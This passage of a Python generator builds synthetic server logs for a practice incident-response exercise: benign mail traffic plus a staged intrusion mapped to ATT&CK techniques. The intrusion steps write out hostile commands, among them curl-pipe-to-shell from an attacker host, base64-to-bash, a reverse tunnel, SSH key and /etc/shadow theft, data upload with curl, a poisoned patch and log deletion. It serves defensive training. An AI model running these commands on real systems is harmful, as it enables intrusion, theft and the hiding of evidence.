    m(t + S(0.75), "postfix/smtpd", p, "disconnect from %s ehlo=2 starttls=1 mail=1 rcpt=%d data=1 quit=1 commands=%d" % (client, len(rcpts), 6 + len(rcpts)))
    e = t + S(0.8)
    for a in rcpts:
        deliver_local(e, q, bymail(a), a, r, (e - t) / US - 0.4)
        e += S(0.03)
    m(e + S(0.01), "postfix/qmgr", MP["qmgr"], "%s: removed" % q)


def submit(t, who, ip, sender, rcpts, size, r, attach=None, pace=0.05, slow=()):
    q, p = qid(r), mpid(t, 9)
    MSGID[q] = "%s-%s-%s@%s" % (hexid(r, 8), hexid(r, 4), hexid(r, 12), DOMAIN)
    client = "unknown[%s]" % ip
    helo = "[%s]" % ip
    m(t, "postfix/submission/smtpd", p, "connect from " + client)
    m(t + S(0.4), "postfix/submission/smtpd", p, "%s: client=%s, sasl_method=PLAIN, sasl_username=%s" % (q, client, who))
    m(t + S(0.5), "postfix/cleanup", mpid(t, 4), "%s: message-id=<%s>" % (q, MSGID[q]))
    if attach:
        header(t + S(0.52), q, attach, sender, rcpts[-1], client, helo)
    n = len(rcpts)
    m(t + S(0.9), "postfix/qmgr", MP["qmgr"], "%s: from=<%s>, size=%d, nrcpt=%d (queue active)" % (q, sender, size, n))
    m(t + S(1.0), "postfix/submission/smtpd", p, "disconnect from %s ehlo=2 starttls=1 auth=1 mail=1 rcpt=%d data=1 quit=1 commands=%d" % (client, n, 7 + n))
    e = t + S(1.1)
    last = e
    for a in rcpts:
        e += S(pace * r.uniform(0.4, 1.6))
        if a in slow:
            d = a.split("@")[1]
            m(e, "postfix/smtp", mpid(e, 2), "%s: to=<%s>, relay=mx1.%s[%s]:25, delay=%.1f, delays=0.6/0.1/0.8/0.4, dsn=4.7.1, status=deferred "
              "(host mx1.%s[%s] said: 451 4.7.1 <%s>: Recipient address rejected: Greylisted, try again later (in reply to RCPT TO command))" %
              (q, a, d, PIP[d], (e - t) / US, d, PIP[d], a))
            later = t + S(960 + r.random() * 20)
            m(later - S(1), "postfix/qmgr", MP["qmgr"], "%s: from=<%s>, size=%d, nrcpt=%d (queue active)" % (q, sender, size, n)) if a == slow[0] else None
            deliver_remote(later, q, a, r, (later - t) / US)
            last = max(last, later)
        elif a.endswith("@" + DOMAIN):
            deliver_local(e, q, bymail(a), a, r, (e - t) / US)
        else:
            deliver_remote(e, q, a, r, (e - t) / US)
        last = max(last, e)
    m(last + S(0.05), "postfix/qmgr", MP["qmgr"], "%s: removed" % q)
    return q


def mail():
    r = R("mail")
    bad = brute_ips()
    for d in ALLDAYS:
        work = d in workdays()
        staff = [p for p in STAFF if not (p.account == "emathiesen" and d < 6)]
        for _ in range(int((95 if work else 22) * r.uniform(0.85, 1.15))):
            t = at(d) + S(min(r.triangular(0, 24, 11) * 3600, 86390))
            incoming(t, r.choice(CONTACTS), [p.mail for p in r.sample(staff, r.choice([1, 1, 1, 1, 2, 3]))], r.randint(2200, 900000), r,
                     r.choice(SUBJ_FILES) if r.random() < 0.2 else None)
        for _ in range(int((75 if work else 4) * r.uniform(0.85, 1.15))):
            p = r.choice(staff)
            t = at(d) + S(r.triangular(7, 20, 11) * 3600)
            to = r.sample(CONTACTS, r.choice([1, 1, 1, 2])) if r.random() < 0.55 else [x.mail for x in r.sample(staff, r.choice([1, 1, 2, 4])) if x is not p] or [staff[0].mail]
            ip = p.home if p.home and r.random() < 0.15 else p.ip
            submit(t, p.account, ip, p.mail, to, r.randint(1800, 600000), r, r.choice(SUBJ_FILES) if r.random() < 0.22 else None)
        for p in staff:
            for _ in range(r.randint(3, 6) if work else r.choice([0, 0, 1])):
                t = at(d) + S(r.triangular(7, 19.5, 9) * 3600)
                ip = p.home if p.home and r.random() < 0.2 else p.ip
                if r.random() < 0.02:
                    imap_fail(t - S(15), p.account, ip, r)
                imap(mail1, t, p.account, ip, min(r.uniform(60, 5000), (at(d) + DAY - t) / US - 10), r=r)
        for _ in range(r.randint(20, 45)):                          # unwanted mail
            t, ip = at(d) + int(r.random() * (DAY - S(10))), r.choice(bad)
            p = mpid(t, 3)
            frm = "%s@%s.example" % (r.choice(FIRST), "".join(r.choice(ILL) for _ in range(7)))
            to = r.choice(staff).mail
            helo = "host%d.example" % r.randint(10, 99)
            m(t, "postfix/smtpd", p, "connect from unknown[%s]" % ip)
            x = r.random()
            if x < 0.55:
                why = "554 5.7.1 Service unavailable; Client host [%s] blocked using zen.rbl.example; https://www.rbl.example/query/ip/%s" % (ip, ip)
            elif x < 0.75:
                to = "%s@%s" % (r.choice(["info2", "sales", "hr", "office", "root", "billing"]), DOMAIN)
                why = "550 5.1.1 <%s>: Recipient address rejected: User unknown in virtual mailbox table" % to
            elif x < 0.9:
                to = "%s@%s" % (r.choice(FIRST), r.choice(PARTNERS))
                why = "454 4.7.1 <%s>: Relay access denied" % to
            else:
                why = "450 4.7.25 Client host rejected: cannot find your hostname, [%s]" % ip
            m(t + S(0.4), "postfix/smtpd", p, "NOQUEUE: reject: RCPT from unknown[%s]: %s; from=<%s> to=<%s> proto=ESMTP helo=<%s>" % (ip, why, frm, to, helo))
            m(t + S(0.8), "postfix/smtpd", p, "disconnect from unknown[%s] ehlo=1 mail=1 rcpt=0/1 quit=1 commands=3/4" % ip)
        for _ in range(r.randint(10, 40)):                          # password guessing on mail
            t, ip = at(d) + int(r.random() * (DAY - S(10))), r.choice(bad)
            if r.random() < 0.6:
                p = mpid(t, 9)
                m(t, "postfix/submission/smtpd", p, "connect from unknown[%s]" % ip)
                m(t + S(2), "postfix/submission/smtpd", p, "warning: unknown[%s]: SASL LOGIN authentication failed: UGFzc3dvcmQ6" % ip)
                m(t + S(2.3), "postfix/submission/smtpd", p, "disconnect from unknown[%s] ehlo=1 auth=0/1 quit=1 commands=2/3" % ip)
            else:
                imap_fail(t, r.choice(["info", "office", "admin", "test", "lharms", "uclaassen", "press"]), ip, r)
    # weekly newsletter to all staff, by the press office, with attachment (benign)
    for d, kw in ((7, 19), (15, 20), (21, 21)):
        p = WHO["lharms"]
        rc = [x.mail for x in STAFF]
        submit(at(d, "10:30:0%d" % (d % 9)), p.account, p.ip, p.mail, rc, 1480000 + d * 311, r, "ICS-Newsletter-KW%d.pdf" % kw)


# ------------------------------------------------------------- the intrusion

GAP = (at(21, "1:28:40"), at(21, "3:02:10"))         # cut out of auth.log on web1
AUDIT_OFF = at(21, "1:44:12.417")                    # on web1
AUDIT_ON = at(22, "9:41:55.208")
NEWKEY = fingerprint("intruder 1")


def www(t, r, size, cmd, children=(), post=True):
    """one command through the web shell"""
    if post:
        nginx(web1, t + S(0.3), ATT_MAIL, "POST %s HTTP/1.1" % SHELL, 200, size, "-", UA[1])
    p = web1.pid(t)
    w = web1.fpm + 3
    E = lambda dt, argv, pid=None, ppid=w, path=None: a_exec(web1, t + S(dt), argv, 33, UNSET, str(UNSET), "(none)",
                                                            "/var/www/portal/uploads", ppid, pid, path=path)
    E(0.01, ["sh", "-c", cmd], p, path="/bin/sh")
    if len(children) == 1:
        E(0.014, children[0], p)
    else:
        last = p
        for i, c in enumerate(children):
            path = None
            if isinstance(c, tuple):
                c, path = c
            q = E(0.016 + i * 0.4, c, None, p if i < 2 else last, path)
            last = q if i == 1 else last


def intrusion():
    r = R("intrusion")

    def S(x):                                   # seconds, a little uneven, the same for all parts of one second
        return int((x + (zlib.crc32(b"%d" % int(x)) % 99991 / 140000 if x >= 1 else 0)) * US)

    J, T = WHO["hl-jansen"], WHO["tahlers"]

    # --- Wed 13 May 02:47: the provider's key, from a network never seen before
    t = at(13, "2:47:09.318442")
    define(1, "side-door", "T1199", "key of provider person hl-jansen used on web1 from a never-seen network at night")
    define(2, "side-door", "T1082", "looks around on web1: id, uname, /etc/passwd, sudo rights")
    define(3, "tools", "T1105", "fetches tools from an outside address with curl and wget")
    define(4, "tools", "T1505.003", "puts a hidden PHP file (web shell) into the upload folder of the portal")
    define(5, "cover", "T1070.006", "gives the new PHP file the date of an old one")
    with step(1):
        s = Ssh(web1, t, J, ATT_ENTRY, pty=True)
    with step(2):
        for dt, c in ((14, ["id"]), (19, ["uname", "-a"]), (31, ["cat", "/etc/passwd"]), (58, ["ls", "-la", "/home"]), (95, ["ip", "-br", "addr"])):
            s.exec(t + S(dt), c)
        s.exec(t + S(77), ["sudo", "-l"])
    with step(3):
        s.exec(t + S(214), ["mkdir", "-p", "/tmp/.fontcache"])
        s.exec(t + S(241), ["curl", "-fsSL", "-o", "/tmp/.fontcache/fc-agent", "http://%s:8080/fc-agent" % ATT_STAGE])
        s.exec(t + S(259), ["wget", "-q", "-O", "/tmp/.fontcache/t.bin", "http://%s:8080/t.bin" % ATT_STAGE])
        s.exec(t + S(270), ["chmod", "755", "/tmp/.fontcache/fc-agent"])
    with step(4):
        s.exec(t + S(402), ["cp", "/tmp/.fontcache/t.bin", "/var/www/portal" + SHELL])
        s.exec(t + S(431), ["ls", "-la", "/var/www/portal/uploads"])
        nginx(web1, t + S(468), ATT_ENTRY, "GET %s HTTP/1.1" % SHELL, 200, 0, "-", UA[1])
    with step(5):
        s.exec(t + S(440), ["touch", "-r", "/var/www/portal/index.php", "/var/www/portal" + SHELL])
    with step(1):
        s.close(t + S(1391))

    # --- Thu 14 May (holiday), about 03:12: through the web shell
    define(6, "tools", "T1059.004", "web shell used: POST requests to the hidden script, www-data runs shell commands")
    define(7, "tools", "T1105", "www-data fetches a script and pipes it into a shell")
    define(8, "tools", "T1140", "www-data decodes base64 text and runs it")
    define(9, "tunnel", "T1572", "reverse tunnel from web1 to an outside server, started by www-data")
    t = at(14, "3:12:44.502")
    with step(6):
        www(t, r, 54, "id", [["id"]])
        www(t + S(13), r, 121, "uname -a", [["uname", "-a"]])
        www(t + S(29), r, 31, "whoami; pwd", [["whoami"]])
        www(t + S(66), r, 913, "ls -la /home /tmp/.fontcache", [["ls", "-la", "/home", "/tmp/.fontcache"]])
    with step(7):
        www(t + S(171), r, 17, "curl -fsSL http://%s:8080/s.sh | sh" % ATT_STAGE,
            [["curl", "-fsSL", "http://%s:8080/s.sh" % ATT_STAGE], ["sh"], ["mkdir", "-p", "/dev/shm/.fc"],
             ["cp", "/tmp/.fontcache/fc-agent", "/dev/shm/.fc/fc-agent"]])
    with step(8):
        b = base64.b64encode(b"id;hostname;ip -br addr;ss -tln").decode()
        www(t + S(320), r, 1402, "echo %s | base64 -d | bash" % b,
            [["base64", "-d"], (["bash"], "/bin/bash"), ["id"], ["hostname"], ["ip", "-br", "addr"], ["ss", "-tln"]])
    with step(9):
        a = ["/dev/shm/.fc/fc-agent", "client", "--keepalive", "25s", "https://%s:8443" % ATT_VPS, "R:127.0.0.1:1080:socks"]
        www(t + S(1140), r, 0, "nohup %s >/dev/null 2>&1 &" % " ".join(a), [["nohup"] + a, a])

    # --- pause 15 and 16 May.  Sun 17 May 01:52: credentials
    define(10, "side-door", "T1078", "second night login as hl-jansen on web1 from the same outside address, on a Sunday")
    define(11, "tunnel", "T1572", "ssh -R from web1 to the outside server: a way back in that avoids the front door")
    define(12, "credentials", "T1040", "tcpdump with sudo by the provider's account: reads webmail passwords on the wire to mail1")
    define(13, "credentials", "T1003.008", "reads /etc/shadow")
    define(14, "credentials", "T1552.004", "reads the private ssh key of administrator tahlers and keeps a copy")
    t = at(17, "1:52:31.774")
    with step(10):
        s = Ssh(web1, t, J, ATT_ENTRY, pty=True)
    with step(11):
        s.exec(t + S(63), ["ssh", "-f", "-N", "-o", "StrictHostKeyChecking=no", "-o", "ServerAliveInterval=60", "-i", "/tmp/.fontcache/k",
                           "-R", "127.0.0.1:10022:127.0.0.1:22", "-p", "443", "relay@" + ATT_VPS])
    with step(13):
        s.sudo(t + S(171), ["cat", "/etc/shadow"], dur=0.03)
    with step(14):
        s.exec(t + S(205), ["ls", "-la", "/home/tahlers"])
        s.sudo(t + S(229), ["cat", "/home/tahlers/.ssh/id_ed25519"], dur=0.03)
        s.sudo(t + S(251), ["cp", "/home/tahlers/.ssh/id_ed25519", "/dev/shm/.fc/i"], dur=0.03)
        s.sudo(t + S(259), ["chown", "hl-jansen", "/dev/shm/.fc/i"], dur=0.03)
    with step(12):
        cap = ["tcpdump", "-i", "eth0", "-nn", "-s0", "-w", "/var/tmp/.sess-3f.pcap", "host", "10.20.20.16", "and", "port", "143"]
        p = s.sudo(t + S(402), cap, dur=3180)
        for dt, on in ((402.31, 256), (3581.8, 0)):
            web1.kernel(t + S(dt), "device eth0 %s promiscuous mode" % ("entered" if on else "left"))
            if on:
                web1.aud(t + S(dt), [
                    ("ANOM_PROMISCUOUS", "dev=eth0 prom=256 old_prom=0 auid=2001 uid=0 gid=0 ses=%s" % s.ses,
                     'AUID="hl-jansen" UID="root" GID="root"'),
                    syscall(web1, 54, p, s.sudo_pid, 2001, 0, s.ses, s.tty.replace("/", ""), "tcpdump", "/usr/bin/tcpdump", None, 0,
                            a=["4", "107", "1", "7ffc01d2a6b0"]),
                    ("PROCTITLE", "proctitle=" + proctitle(cap), None)])
        s.exec(t + S(3600), ["strings", "-n", "6", "/var/tmp/.sess-3f.pcap"])
    with step(10):
        s.close(t + S(3902))

    # --- Mon 18 May 02:21: moving on with the administrator's key
    define(15, "tunnel", "T1572", "hl-jansen comes in over the reverse tunnel: login on web1 from 127.0.0.1")
    define(16, "moved-on", "T1021.004", "from web1 to web2 with the stolen key of tahlers")
    define(17, "moved-on", "T1136.001", "new account svc-update with sudo rights on web2")
    define(18, "moved-on", "T1548.003", "sudoers rule without password for svc-update on web2")
    define(19, "moved-on", "T1021.004", "from web1 to files1 with the stolen key of tahlers")
    define(20, "moved-on", "T1098.004", "own key added to root's authorized_keys on files1")
    define(21, "moved-on", "T1021.004", "from web1 to db1 with the stolen key of tahlers")
    define(22, "moved-on", "T1005", "dumps the portal database on db1 as postgres")
    t = at(18, "2:21:17.093")
    with step(15):
        s = Ssh(web1, t, J, "127.0.0.1", pty=True)
    with step(16):
        s.exec(t + S(48), ["ssh", "-i", "/dev/shm/.fc/i", "-o", "StrictHostKeyChecking=no", "tahlers@10.20.10.12"])
        w = Ssh(web2, t + S(49), T, web1.ip, pty=True)
        w.exec(t + S(71), ["id"])
        w.exec(t + S(83), ["last", "-n", "15"])
        w.exec(t + S(99), ["cat", "/etc/hosts"])
    with step(17):
        ua = ["useradd", "-m", "-s", "/bin/bash", "-c", "system update service", "svc-update"]
        p = w.sudo(t + S(190), ua, dur=0.5)
        new_account(web2, t + S(190.2), w, p, "svc-update", 2004, "/bin/bash")
        p = w.sudo(t + S(214), ["usermod", "-aG", "sudo", "svc-update"], dur=0.3)
        web2.log("auth", t + S(214.1), "usermod", p, "add 'svc-update' to group 'sudo'")
        web2.log("auth", t + S(214.101), "usermod", p, "add 'svc-update' to shadow group 'sudo'")
        w.sudo(t + S(240), ["mkdir", "-m", "700", "/home/svc-update/.ssh"], dur=0.05)
        w.sudo(t + S(252), ["tee", "/home/svc-update/.ssh/authorized_keys"], dur=0.05)
        w.sudo(t + S(263), ["chown", "-R", "svc-update:svc-update", "/home/svc-update/.ssh"], dur=0.05)
    with step(18):
        te = ["tee", "/etc/sudoers.d/90-svc-update"]
        p = w.sudo(t + S(301), te, dur=0.06)
        a_write(web2, t + S(301.04), te, "/etc/sudoers.d/90-svc-update", "ident", "CREATE", 0, T.uid, w.ses, w.tty, w.home, w.sudo_pid, p)
    with step(16):
        w.close(t + S(353))
    with step(19):
        s.exec(t + S(377), ["ssh", "-i", "/dev/shm/.fc/i", "-o", "StrictHostKeyChecking=no", "tahlers@10.20.20.15"])
        f = Ssh(files1, t + S(378), T, web1.ip, pty=True)
        f.exec(t + S(402), ["ls", "-la", "/srv/research"])
        f.exec(t + S(430), ["du", "-sh", "/srv/research/defence-acoustics", "/srv/research/tides"])
        f.exec(t + S(466), ["find", "/srv/research", "-name", "*.docx", "-newermt", "2026-01-01"])
    with step(20):
        te = ["tee", "-a", "/root/.ssh/authorized_keys"]
        p = f.sudo(t + S(590), te, dur=0.06)
        a_write(files1, t + S(590.04), te, "/root/.ssh/authorized_keys", "ident", "NORMAL", 0, T.uid, f.ses, f.tty, f.home, f.sudo_pid, p,
                mode="0100600", flags="441")
    with step(19):
        f.close(t + S(655))
    with step(21):
        s.exec(t + S(690), ["ssh", "-i", "/dev/shm/.fc/i", "-o", "StrictHostKeyChecking=no", "tahlers@10.20.20.14"])
        d = Ssh(db1, t + S(691), T, web1.ip, pty=True)
    with step(22):
        d.sudo(t + S(733), ["psql", "-l"], runas="postgres", opts=["-u", "postgres"], dur=0.4)
        d.sudo(t + S(790), ["pg_dump", "-Fc", "-f", "/tmp/.pg-stat.tmp", "portal"], runas="postgres", opts=["-u", "postgres"], dur=148)
    with step(21):
        d.close(t + S(1204))
    with step(22):
        s.exec(t + S(1228), ["scp", "-q", "-i", "/dev/shm/.fc/i", "tahlers@10.20.20.14:/tmp/.pg-stat.tmp", "/dev/shm/.fc/p"])
        x = Ssh(db1, t + S(1229), T, web1.ip)
        x.close(t + S(1266))
    with step(15):
        s.close(t + S(1490))

    # --- Tue 19 May 02:33
    define(23, "moved-on", "T1078.003", "new account svc-update used on web2, from web1")
    define(24, "moved-on", "T1021.004", "root login on files1 with the key added the night before, from web1")
    define(25, "moved-on", "T1048", "research folders carried from files1 to web1 and uploaded to the outside address")
    define(26, "cover", "T1070.003", "command history of root emptied on files1")
    t = at(19, "2:33:50.661")
    with step(15):
        s = Ssh(web1, t, J, "127.0.0.1", pty=True)
    with step(23):
        s.exec(t + S(40), ["ssh", "-i", "/tmp/.fontcache/k", "svc-update@10.20.10.12"])
        w = Ssh(web2, t + S(41), SVC, web1.ip, pty=True, key=NEWKEY)
        w.exec(t + S(60), ["sudo", "-l"])
        w.close(t + S(133))
    with step(24):
        s.exec(t + S(170), ["ssh", "-i", "/tmp/.fontcache/k", "root@10.20.20.15"])
        f = Ssh(files1, t + S(171), ROOT, web1.ip, pty=True, key=NEWKEY)
        f.close(t + S(2411))
    with step(25):
        s.exec(t + S(2440), ["scp", "-q", "-i", "/tmp/.fontcache/k", "root@10.20.20.15:/var/tmp/.r.tgz", "/dev/shm/.fc/r"])
        x = Ssh(files1, t + S(2441), ROOT, web1.ip, key=NEWKEY)
        x.close(t + S(2790))
        s.exec(t + S(2801), ["curl", "-s", "-T", "/dev/shm/.fc/r", "http://%s:8080/u/7" % ATT_STAGE])
    with step(26):
        s.exec(t + S(3102), ["ssh", "-i", "/dev/shm/.fc/i", "tahlers@10.20.20.15"])
        f = Ssh(files1, t + S(3103), T, web1.ip, pty=True)
        f.sudo(t + S(3121), ["truncate", "-s", "0", "/root/.bash_history"], dur=0.03)
        f.sudo(t + S(3135), ["rm", "-f", "/var/tmp/.r.tgz"], dur=0.03)
        f.exec(t + S(3149), ["rm", "-f", "/home/tahlers/.bash_history"])
        f.close(t + S(3160))
    with step(15):
        s.close(t + S(3233))

    # --- Tue 19 May 22:41: in the security manager's mail box
    define(27, "impersonation", "T1114.002", "reads the security manager's mail box from an outside address")
    define(28, "impersonation", "T1078", "sends a first mail as the security manager from the outside address (test)")
    t = at(19, "22:41:26.38")
    with step(27):
        imap(mail1, t, "ivossberg", ATT_MAIL, 402, r=r, fetched=38, body=911204)
        imap(mail1, t + S(1030), "ivossberg", ATT_MAIL, 655, r=r, fetched=64, body=1830117)
    with step(28):
        submit(t + S(1500), "ivossberg", ATT_MAIL, WHO["ivossberg"].mail, ["piet.sommer@seamark.example"], 2114, r)

    # --- Wed 20 May 03:05: the patch server, then the mail wave
    define(29, "distribution", "T1021.004", "from web1 to patch1 with the stolen key of tahlers")
    define(30, "distribution", "T1195.002", "puts a file into the patch folder and changes the list of check sums")
    define(31, "distribution", "T1566.001", "mail wave with attachment to 182 addresses in the name of the security manager")
    define(32, "cover", "T1070.008", "deletes the answers and the sent copies from the mail box")
    t = at(20, "3:05:02.127")
    fn = "ics-connect-4.2.1-hotfix.tar.gz"
    with step(15):
        s = Ssh(web1, t, J, "127.0.0.1", pty=True)
    with step(29):
        s.exec(t + S(30), ["scp", "-q", "-i", "/dev/shm/.fc/i", "/dev/shm/.fc/" + fn, "tahlers@10.20.20.17:/tmp/" + fn])
        x = Ssh(patch1, t + S(31), T, web1.ip)
        x.remote(t + S(31.6), "/usr/lib/openssh/sftp-server")
        x.close(t + S(36))
        s.exec(t + S(61), ["ssh", "-i", "/dev/shm/.fc/i", "tahlers@10.20.20.17"])
        f = Ssh(patch1, t + S(62), T, web1.ip, pty=True)
        f.exec(t + S(80), ["ls", "-la", "/srv/patch/release"])
        f.exec(t + S(91), ["cat", "/srv/patch/release/SHA256SUMS"])
    with step(30):
        a = ["install", "-m", "0644", "/tmp/" + fn, "/srv/patch/release/" + fn]
        p = f.sudo(t + S(155), a, dur=0.1)
        a_write(patch1, t + S(155.04), a, "/srv/patch/release/" + fn, "patch", "CREATE", 0, T.uid, f.ses, f.tty, f.home, f.sudo_pid, p, flags="c1")
        a = ["tee", "-a", "/srv/patch/release/SHA256SUMS"]
        p = f.sudo(t + S(188), a, dur=0.1)
        a_write(patch1, t + S(188.04), a, "/srv/patch/release/SHA256SUMS", "patch", "NORMAL", 0, T.uid, f.ses, f.tty, f.home, f.sudo_pid, p, flags="441")
        f.exec(t + S(201), ["rm", "-f", "/tmp/" + fn])
    with step(29):
        f.close(t + S(240))
    with step(15):
        s.close(t + S(275))
    with step(27):
        imap(mail1, at(20, "5:58:40.9"), "ivossberg", ATT_MAIL, 311, r=r, fetched=22, body=604118)
    V = WHO["ivossberg"]
    rc = [x.mail for x in STAFF if x is not V]
    ext = list(CONTACTS)
    R("wave").shuffle(ext)
    rc += sorted(ext[:182 - len(rc)])
    with step(31):
        submit(at(20, "8:17:05.44"), "ivossberg", ATT_MAIL, V.mail, rc, 2231874, r, "ICS-Connect-Hotfix-Guide.zip", pace=0.42,
               slow=[rc[40], rc[97], rc[150]])
    with step(32):
        imap(mail1, at(20, "8:49:12.6"), "ivossberg", ATT_MAIL, 208, r=r, deleted=19, expunged=19, fetched=19, body=88120)
    # people ask back (ordinary lines, not the intruder's)
    rr = R("answers")
    for i in range(14):
        t = at(20, "8:24") + S(rr.uniform(0, 5400))
        if rr.random() < 0.5:
            p = rr.choice([x for x in STAFF if x is not V])
            submit(t, p.account, p.ip, p.mail, [V.mail], rr.randint(3000, 9000), rr)
        else:
            incoming(t, rr.choice(rc[24:]), [V.mail], rr.randint(3000, 9000), rr)

    # --- Thu 21 May 01:29: covering the tracks on web1
    define(33, "side-door", "T1078", "last night login on web1 over the tunnel (only the audit log and syslog still show it)")
    define(34, "cover", "T1070.003", "command history of hl-jansen removed on web1")
    define(35, "cover", "T1562.012", "audit daemon switched off on web1")
    define(36, "cover", "T1070.002", "auth.log of web1 cut: nothing between 01:28 and 03:02, rsyslog told to open its files again; "
           "the session that then closes was never opened in this file")
    t = at(21, "1:29:55.240")
    with step(33):
        s = Ssh(web1, t, J, "127.0.0.1", pty=True)
    with step(34):
        s.exec(t + S(121), ["rm", "-f", "/home/hl-jansen/.bash_history"])
        s.exec(t + S(129), ["ln", "-sf", "/dev/null", "/home/hl-jansen/.bash_history"])
        s.exec(t + S(160), ["rm", "-rf", "/tmp/.fontcache", "/var/tmp/.sess-3f.pcap"])
    with step(35):
        s.sudo(t + S(640), ["systemctl", "stop", "auditd"], dur=0.1)        # refused by the unit
        # only the run-up of this sudo is still recorded
        off = AUDIT_OFF
        s.sudo(off - S(0.0135), ["auditctl", "-e", "0"], dur=0.02)
        web1.aud(off - 1, [("CONFIG_CHANGE", "op=set audit_enabled=0 old=1 auid=2001 ses=%s subj=unconfined res=1" % s.ses, 'AUID="hl-jansen"')])
        web1.entry("var/log/audit/audit.log", off + S(31.2), ["type=DAEMON_END msg=audit(%d.%03d:4417): op=terminate auid=2001 uid=0 ses=%s "
                   "pid=%d subj=unconfined res=success\x1dAUID=\"hl-jansen\" UID=\"root\"" %
                   ((off + S(31.2)) // US, (off + S(31.2)) // 1000 % 1000, s.ses, web1.pid(off + S(31)))])
        web1.log("daemon", off + S(31.22), "auditd", web1.logind - 77, "The audit daemon is exiting.")
        web1.log("daemon", off + S(31.25), "systemd", 1, "auditd.service: Deactivated successfully.")
    with step(36):
        s.sudo(at(21, "2:58:20.1"), ["sed", "-i", "/T01:2[89]/d", "/var/log/auth.log"], dur=0.1)
        s.sudo(at(21, "3:02:04.6"), ["systemctl", "kill", "-s", "HUP", "rsyslog"], dur=0.1)
        web1.log("daemon", at(21, "3:02:04.9"), "rsyslogd", None,
                 '[origin software="rsyslogd" swVersion="8.2302.0" x-pid="%d" x-info="https://www.rsyslog.com"] rsyslogd was HUPed' % (web1.logind - 11))
        s.close(at(21, "3:04:31.87"))

    # --- Fri 22 May: an administrator starts the audit daemon again (not the intruder)
    t = at(22, "9:38:12")
    s = jump(T, web1, t, 700)
    s.exec(t + S(40), ["uptime"])
    on = AUDIT_ON
    s.sudo(on - S(0.4), ["systemctl", "start", "auditd"], dur=0.9)
    web1.log("daemon", on - S(0.3), "systemd", 1, "Starting auditd.service - Security Auditing Service...")
    web1.log("daemon", on + S(0.2), "auditd", web1.pid(on), "Init complete, auditd 3.0.9 listening for events (startup state enable)")
    web1.log("daemon", on + S(0.25), "systemd", 1, "Started auditd.service - Security Auditing Service.")
    web1.entry("var/log/audit/audit.log", on, ["type=DAEMON_START msg=audit(%d.%03d:6120): op=start ver=3.0.9 format=enriched kernel=6.1.0-34-amd64 "
               "auid=%d pid=%d uid=0 ses=%d subj=unconfined res=success\x1dAUID=\"unset\" UID=\"root\"" %
               (on // US, on // 1000 % 1000, UNSET, web1.pid(on), UNSET)])
    for i, k in enumerate(("exec", "exec", "patch", "ident", "ident", "ident")):
        web1.aud(on + S(0.1 + i * 0.004), [("CONFIG_CHANGE", 'auid=%d ses=%d subj=unconfined op=add_rule key="%s" list=4 res=1' % (UNSET, UNSET, k), 'AUID="unset"')])


# ------------------------------------------------------------- writing

SINGLE = {"var/log/audit/audit.log", "var/log/journal.json", "var/log/dpkg.log", "var/log/apt/history.log"}
WEEK = [".2.gz", ".1", ""]
FAC = {"auth": 10, "cron": 9, "mail": 2, "daemon": 3, "kern": 0}


def journal_line(h, t, e, n, ses_sub):
    fac, ident, pid, msg, uid, unit, exe = e
    msg = ses_sub(msg)
    sysd_ = ident in ("systemd", "systemd-logind", "systemd-timesyncd")
    if ident == "(systemd)":
        ident, comm = "(systemd)", "(systemd)"
    comm = ident if ident != "CRON" else "cron"
    path = {"sshd": "/usr/sbin/sshd", "sudo": "/usr/bin/sudo", "CRON": "/usr/sbin/cron", "systemd": "/usr/lib/systemd/systemd",
            "systemd-logind": "/usr/lib/systemd/systemd-logind", "systemd-timesyncd": "/usr/lib/systemd/systemd-timesyncd",
            "(systemd)": "/usr/lib/systemd/systemd"}.get(ident)
    if unit == "session":
        unit = None
    facn = FAC[fac]
    if ident == "sshd" and not msg.startswith("pam_"):
        facn = 4
    if ident == "systemd-logind":
        facn = 4
    o = {"__CURSOR": "s=%s;i=%x;b=%s;m=%x;t=%x;x=%s" % (hashlib.md5(b"seqnum db1").hexdigest(), 410000 + n, h.bootid, t - h.boot, t,
                                                         hashlib.md5(("x%d" % n).encode()).hexdigest()[:16]),
         "__REALTIME_TIMESTAMP": str(t), "__MONOTONIC_TIMESTAMP": str(t - h.boot), "_BOOT_ID": h.bootid,
         "PRIORITY": "5" if "COMMAND=" in msg else "6", "SYSLOG_FACILITY": str(facn), "SYSLOG_IDENTIFIER": ident}
    if pid is not None and ident not in ("systemd", "sudo"):
        o["SYSLOG_PID"] = str(pid)
    o["_PID"] = str(pid if pid is not None else 1)
    o["_UID"] = str(uid)
    o["_GID"] = str(uid)
    o["_COMM"] = comm
    if path:
        o["_EXE"] = path
    o["_TRANSPORT"] = "journal" if sysd_ else "syslog"
    if unit:
        o["_SYSTEMD_UNIT"] = unit
        o["_SYSTEMD_CGROUP"] = "/system.slice/" + unit if not unit.startswith("user@") else "/user.slice/" + unit
    elif ident == "systemd":
        o["_SYSTEMD_UNIT"] = "init.scope"
    o["_MACHINE_ID"] = h.machine
    o["_HOSTNAME"] = h.name
    o["MESSAGE"] = msg
    o["_SOURCE_REALTIME_TIMESTAMP"] = str(t - 37)
    return json.dumps(o, separators=(",", ":"))


def utmp(recs):
    out = []
    for t, typ, pid, line, user, host in sorted(recs, key=lambda x: (x[0], x[2])):
        a = [0, 0, 0, 0]
        if host:
            a[0] = struct.unpack("<i", bytes(int(x) for x in host.split(".")))[0]
        out.append(struct.pack("<hxxi32s4s32s256shhiii4i20s", typ, pid, line.encode(),
                               ("ts/" + line[4:]).encode()[:4] if typ != 6 else b"", user.encode()[:32], host.encode(), 0, 0,
                               pid if typ == 7 else 0, t // US, t % US, a[0], 0, 0, 0, b""))
    assert all(len(x) == 384 for x in out)
    return b"".join(out)


def write(path, data):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    if path.endswith(".gz"):
        b = io.BytesIO()
        with gzip.GzipFile(filename="", mode="wb", fileobj=b, compresslevel=9, mtime=0) as z:
            z.write(data)
        data = b.getvalue()
    with open(path, "wb") as f:
        f.write(data)


def finish(out):
    base = os.path.join(out, "practice-incident")
    if os.path.isdir(base):
        shutil.rmtree(base)
    answers = []
    for h in HOSTS.values():
        order = sorted(h.ses)
        first = 40 + int((START - h.boot) / US * 0.0011)
        num = {idx: first + i for i, (_, idx) in enumerate(order)}
        sub = lambda x: re.sub("\x02(\\d+)\x02", lambda k: str(num[int(k.group(1))]), x)
        for path, entries in h.logs.items():
            entries.sort(key=lambda e: (e[0], e[1]))
            serial = 1000 + int((START - h.boot) / US * 0.01)
            files = {}
            for n, (t, sq, e, st) in enumerate(entries):
                if not START <= t < END:
                    continue
                if h is web1 and path == "var/log/auth.log" and GAP[0] <= t < GAP[1]:
                    continue
